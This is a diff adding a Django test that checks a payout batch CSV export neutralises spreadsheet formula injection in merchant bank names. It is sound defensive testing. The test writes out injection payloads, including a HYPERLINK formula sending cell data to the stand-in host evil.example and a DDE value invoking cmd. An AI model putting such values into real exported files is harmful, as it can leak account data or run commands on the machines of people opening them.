@@ -8,6 +8,7 @@ from django.core.management import call_command
 from django.utils import translation
 
 from marketplace.errors import ConflictError
+from merchants.models import Merchant
 from settlements import services
 from settlements.models import Invoice, JournalEntry, Payout, Statement
 from tests.factories import UserFactory
@@ -56,6 +57,25 @@ def test_batch_export_paid_and_failed_payouts():
     out = StringIO()
     call_command("verify_ledger", stdout=out)
     assert out.getvalue().startswith("ok (3 entries")
+
+
+def test_the_bank_file_writes_formulas_in_names_as_text_and_amounts_as_numbers():
+    shops, _approver = _approved()
+    payee = '=HYPERLINK("https://evil.example/?acct="&D2,"Verify")'
+    Merchant.objects.filter(pk=shops[0].merchant.pk).update(bank_account_name=payee, bank_name="@SUM(1+1)")
+    Merchant.objects.filter(pk=shops[1].merchant.pk).update(bank_account_name="-2+3", bank_name="\tcmd|' /C calc'!A0")
+    payer = UserFactory(is_staff=True)
+    batch = services.payout_batch_create(actor=payer)
+    first, second = batch.payouts.order_by("id")
+    content = services.payout_batch_csv(batch=batch, actor=payer)
+    assert list(csv.reader(io.StringIO(content))) == [
+        ["reference", "payee", "bank", "account_number", "amount", "period"],
+        [first.reference, "'" + payee, "'@SUM(1+1)", "6222021234567890", "103.00", "2026-10"],
+        [second.reference, "'-2+3", "'\tcmd|' /C calc'!A0", "6222021234567890", "198.00", "2026-10"],
+    ]
+    # No cell of the file starts a formula.
+    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
 
 
 def test_bank_result_file_is_all_or_nothing():
